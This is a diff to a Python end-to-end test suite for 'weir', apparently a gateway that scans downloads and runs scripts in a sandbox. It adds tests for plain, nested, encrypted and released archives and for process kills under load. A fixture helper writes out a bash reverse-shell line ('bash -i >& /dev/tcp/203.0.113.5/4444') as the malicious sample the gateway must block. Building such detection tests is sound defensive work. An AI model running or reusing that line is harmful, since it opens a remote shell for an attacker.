@@ -10,6 +10,9 @@ import io
 import json
 import os
 import pathlib
+import random
+import re
+import shutil
 import signal
 import subprocess
 import threading
@@ -18,8 +21,8 @@ import zipfile
 import websockets
 
 from browser import Browser, Page
-from weir_e2e import (BIN, DEFAULT_POLICY, SOURCE, RawOrigin, Scenario, curl, main, respond, unmapped,
-                      wait_until)
+from weir_e2e import (BIN, DEFAULT_POLICY, SOURCE, Gateway, RawOrigin, Scenario, curl, main, respond,
+                      unmapped, wait_until)
 
 HOSTS = ["files.test", "slow.test"]
 LOCAL = f"""version: 1
@@ -53,6 +56,14 @@ def honest(word="fine"):
 
 def reverse_shell(word="x"):
     return f"#!/bin/bash\n# {word}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n".encode()
+
+
+def zipped(members):
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return packed.getvalue()
 
 
 def slow(seconds, word="slow"):
@@ -89,6 +100,42 @@ class Cape(http.server.BaseHTTPRequestHandler):
 
     def log_message(self, *_):
         pass
+
+
+class ShippedGateway(Gateway):
+    """With the configuration as it is shipped, on ports that are free."""
+
+    def __init__(self, folder):
+        self.folder = pathlib.Path(folder)
+        shutil.copytree(SOURCE / "conf", self.folder / "conf")
+        self.state = self.folder / "state"
+        self.config = self.folder / "conf/weir.yaml"
+        text = self.config.read_text()
+        for shipped, here in (("127.0.0.1:8080", "127.0.0.1:0"), ("127.0.0.1:8081", "127.0.0.1:0"),
+                              ("feeds_file: feeds.yaml", "feeds_file: ''")):
+            assert shipped in text, shipped
+            text = text.replace(shipped, here)
+        self.config.write_text(text)
+        self.arguments = []
+        self.start()
+
+
+class AsShipped(Scenario):
+    """The lines that `make run` prints, with nothing configured."""
+
+    def test_what_the_greeting_says(self):
+        gateway = ShippedGateway(self.folder)
+        self.addCleanup(gateway.stop)
+        lines = [line for line in gateway.log_file_text().splitlines() if "https://demo.weir.test" in line]
+        self.assertEqual([line.split(":")[0].strip() for line in lines],
+                         ["passes", "blocked", "unknown", "unknown"])
+        status = {path: curl(gateway, "-o", self.folder / "out", "-w", "%{http_code}",
+                             "https://demo.weir.test" + path).stdout
+                  for path in ("/hello.txt", "/eicar.com", "/setup.sh", "/update.sh")}
+        self.assertEqual(status, {"/hello.txt": "200", "/eicar.com": "403", "/setup.sh": "200",
+                                  "/update.sh": "403"})
+        event = gateway.event(lambda e: e.get("http_request", {}).get("url", {}).get("path") == "/update.sh")
+        self.assertEqual(unmapped(event)["sandbox"]["title"], "shell-on-socket")
 
 
 class Sandbox(Scenario):
@@ -168,10 +215,7 @@ class Sandbox(Scenario):
         self.assertIn("sandbox", [finding["scanner"] for finding in bad["findings"]])
 
         # From then on it is bad for everybody, also inside an archive.
-        packed = io.BytesIO()
-        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
-            archive.writestr("inner/setup.sh", self.files["/bad.sh"])
-        self.files["/bad.zip"] = packed.getvalue()
+        self.files["/bad.zip"] = zipped({"inner/setup.sh": self.files["/bad.sh"]})
         self.assertEqual(self.get("/bad.zip")[0], 403)
         found = [f for f in self.event("/bad.zip")["findings"] if f["scanner"] == "sandbox"]
         self.assertEqual(found[0]["where"], "inner/setup.sh")
@@ -194,6 +238,83 @@ class Sandbox(Scenario):
         # Policy lets it go although it is too large to be seen whole; a part of it is not run.
         self.assertEqual(self.get("/long.sh")[:2], (200, self.files["/long.sh"]))
         self.assertEqual(self.event("/long.sh")["sandbox"]["reason"], "too-large")
+
+    def test_programs_in_archives(self):
+        self.begin(policy().replace("{file_family: [executable, script]}", "{contains: [executable, script]}"))
+        good = {"a.txt": b"text", "in/run.sh": honest("in an archive"), "in/two.sh": honest("the second")}
+        bad = dict(good, **{"in/bad.sh": reverse_shell("in an archive")})
+        self.files = {"/good.zip": zipped(good), "/bad.zip": zipped(bad),
+                      "/nested.zip": zipped({"inner.zip": zipped(bad | {"x": b"x"})}), "/none.zip": zipped({"a": b"a"})}
+        self.assertEqual(self.get("/none.zip")[:2], (200, self.files["/none.zip"]))
+        self.assertNotIn("sandbox", self.event("/none.zip"))
+        self.assertEqual(self.get("/good.zip")[:2], (200, self.files["/good.zip"]))
+        note = self.event("/good.zip")["sandbox"]
+        self.assertEqual((note["asked"], note["verdict"]), ("hold", "clean"))
+        self.assertGreater(note["waited_ms"], 0)
+        # Two of the three programs in it are known by now; the third is bad, and says where it is.
+        self.assertEqual(self.get("/bad.zip")[0], 403)
+        event = self.event("/bad.zip")
+        self.assertEqual((event["verdict"], event["sandbox"]["verdict"]), ("malicious", "malicious"))
+        found, = [f for f in event["findings"] if f["scanner"] == "sandbox"]
+        self.assertEqual(found["where"], "in/bad.sh")
+        self.assertEqual(self.get("/nested.zip")[0], 403)
+        metrics = curl(self.gw, f"http://{self.gw.admin}/metrics", proxy=False).stdout
+        self.assertIn('weir_sandbox_verdicts_total{verdict="clean",reason="none"} 2', metrics)
+
+    def test_more_programs_than_policy_sends(self):
+        many = zipped({f"{i}.sh": honest(f"number {i}") for i in range(3)})
+        self.files = {"/many.zip": many}
+        rules = policy(holding="inside_files: 2, on_unsupported: block").replace(
+            "{file_family: [executable, script]}", "{contains: script}")
+        self.begin(rules)
+        self.assertEqual(self.get("/many.zip")[0], 503)
+        note = self.event("/many.zip")["sandbox"]
+        self.assertEqual((note["reason"], note["title"]),
+                         ("unsupported", "there are more programs inside than holding.inside_files"))
+
+    def test_an_archive_that_was_released_is_followed_up(self):
+        self.begin(policy("release").replace("{file_family: [executable, script]}", "{contains: script}"))
+        self.files = {"/pack.zip": zipped({"bad.sh": reverse_shell("released in an archive")})}
+        self.assertEqual(self.get("/pack.zip")[:2], (200, self.files["/pack.zip"]))
+        wait_until(lambda: self.get("/pack.zip")[0] == 403, "the verdict", 60)
+        digest = hashlib.sha256(self.files["/pack.zip"]).hexdigest()
+        notice = self.gw.event(lambda e: unmapped(e).get("notice") == "patient-zero" and digest in json.dumps(e),
+                               "the notice")
+        self.assertIn(self.url("/pack.zip"), json.dumps(notice))
+
+    def test_a_locked_archive_is_opened_and_its_programs_are_run(self):
+        locked = "  - {name: locked, when: {reason: [encrypted, partly-encrypted]}, action: unlock}\n"
+        rules = policy().replace("{file_family: [executable, script]}", "{contains: script}").replace(
+            "verdict:\n", "verdict:\n" + locked)
+        self.begin(rules)
+        for name, script in (("good", slow(2, "locked")), ("bad", reverse_shell("locked"))):
+            (self.folder / "run.sh").write_bytes(script)
+            subprocess.run(["7zz", "a", "-tzip", "-mem=AES256", "-pinfected1", self.folder / f"{name}.zip",
+                            self.folder / "run.sh"], check=True, capture_output=True)
+            self.files[f"/{name}.zip"] = (self.folder / f"{name}.zip").read_bytes()
+        waits = {}
+        for name in ("good", "bad"):
+            url = json.loads(self.get(f"/{name}.zip", "-H", "Accept: application/json")[1])["unlock"]
+            token = re.search('name="form" value="([0-9a-f]+)"', self.portal(url)[1])[1]
+            got = curl(self.gw, "-D", "-", "-o", "/dev/null", "--data-urlencode", "password=infected1",
+                       "--data-urlencode", f"form={token}", url).stdout
+            waits[name] = re.search(r"(?im)^location: (\S+)", got)[1]
+            self.assertIn("/wait/", waits[name])
+        self.settled(waits["good"])
+        code = curl(self.gw, "-o", self.folder / "got", "-w", "%{http_code}", waits["good"] + "/file").stdout
+        self.assertEqual((code, (self.folder / "got").read_bytes()), ("200", self.files["/good.zip"]))
+        self.settled(waits["bad"])
+        self.refused(waits["bad"])
+        # From then on nobody is asked for its password.
+        status, body, _ = self.get("/bad.zip", "-H", "Accept: application/json")
+        self.assertEqual((status, "unlock" in json.loads(body)), (403, False))
+
+    def refused(self, url):
+        """Its person sees why, and does not get the file."""
+        into = self.folder / "refused"
+        curl(self.gw, "-o", into, url + "/file")
+        self.assertIn(b"stays blocked", into.read_bytes())
+        self.assertNotIn(b"PK", into.read_bytes()[:2])
 
     def weir(self, *words):
         done = subprocess.run([BIN / "weir", *words, "--config", self.gw.config], capture_output=True, text=True)
@@ -429,6 +550,68 @@ class Sandbox(Scenario):
             self.assertEqual(status, 403 if bad else 200, name)
             self.assertEqual(body == data, not bad)
 
+    def test_random_kills_under_load(self):
+        """Gateway, scan engine and sandbox die again and again while people download."""
+        self.begin(policy().replace("{file_family: [executable, script]}", "{contains: script}").replace(
+            "- {name: rest, action: off}", "- {name: also, when: {file_family: script}, action: hold}\n"
+            "  - {name: rest, action: off}"))
+        for n in range(16):
+            script = slow(1, f"load {n}") + (reverse_shell(f"load {n}") if n % 4 == 3 else b"")
+            if n % 2:
+                self.files[f"/{n}.zip"] = zipped({"in/run.sh": script, "in/other.sh": honest(f"load {n}")})
+            else:
+                self.files[f"/{n}.sh"] = script
+        bad = {f"/{n}.zip" for n in range(3, 16, 4)}
+        answers, wrong, lock, todo = {}, [], threading.Lock(), list(self.files)
+
+        def download(number):
+            """Until there is an answer: a person who tries again."""
+            into = self.folder / f"got-{number}"
+            while todo:
+                with lock:
+                    name = todo.pop(0) if todo else None
+                while name and name not in answers:
+                    into.unlink(missing_ok=True)
+                    got = subprocess.run(
+                        ["curl", "-s", "-o", into, "-w", "%{http_code}", "--max-time", "60", "--retry", "0",
+                         "--proxy", f"http://{self.gw.proxy}", "--cacert", self.gw.ca, self.url(name)],
+                        capture_output=True, text=True)
+                    body = into.read_bytes() if into.exists() else b""
+                    with lock:
+                        if name in bad and body and self.files[name].startswith(body[:64]):
+                            wrong.append((name, got.stdout, len(body)))
+                        if got.returncode == 0 and got.stdout in ("200", "403"):
+                            answers[name] = (got.stdout, body == self.files[name])
+
+        threads = [threading.Thread(target=download, args=(n,)) for n in range(4)]
+        for thread in threads:
+            thread.start()
+        pick, kills = random.Random(5), []
+        while any(thread.is_alive() for thread in threads):
+            heard = len(answers)
+            wait_until(lambda: len(answers) > heard or not any(t.is_alive() for t in threads), "an answer", 120)
+            target = pick.choice(["weir", "weir-detonate", "weir-scan"])
+            if len(kills) >= 9 or not self.kill_one(target):
+                continue
+            kills.append(target)
+        for thread in threads:
+            thread.join()
+        self.assertEqual(wrong, [])
+        self.assertEqual(answers, {name: ("403", False) if name in bad else ("200", True) for name in self.files})
+        self.assertGreaterEqual(len(kills), 6, kills)
+        self.assertEqual(set(kills), {"weir", "weir-detonate", "weir-scan"})
+
+    def kill_one(self, name):
+        if name == "weir":
+            self.gw.process.send_signal(signal.SIGKILL)
+            self.gw.process.wait()
+            self.gw.start()
+            return True
+        pid = self.child(name)
+        if pid is not None:
+            os.kill(pid, signal.SIGKILL)
+        return pid is not None
+
     def test_windows_programs_go_to_cape(self):
         server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Cape)
         server.forms, server.state, server.score, server.family = [], "running", 9.1, "Qakbot"
@@ -483,9 +666,12 @@ class Sandbox(Scenario):
         self.assertNotEqual(self.worker(), worker)
 
     def worker(self):
+        return self.child("weir-detonate")
+
+    def child(self, name):
         for pid in children(self.gw.process.pid):
             try:
-                if pathlib.Path(f"/proc/{pid}/comm").read_text().strip() == "weir-detonate":
+                if pathlib.Path(f"/proc/{pid}/comm").read_text().strip() == name:
                     return pid
             except OSError:
                 pass
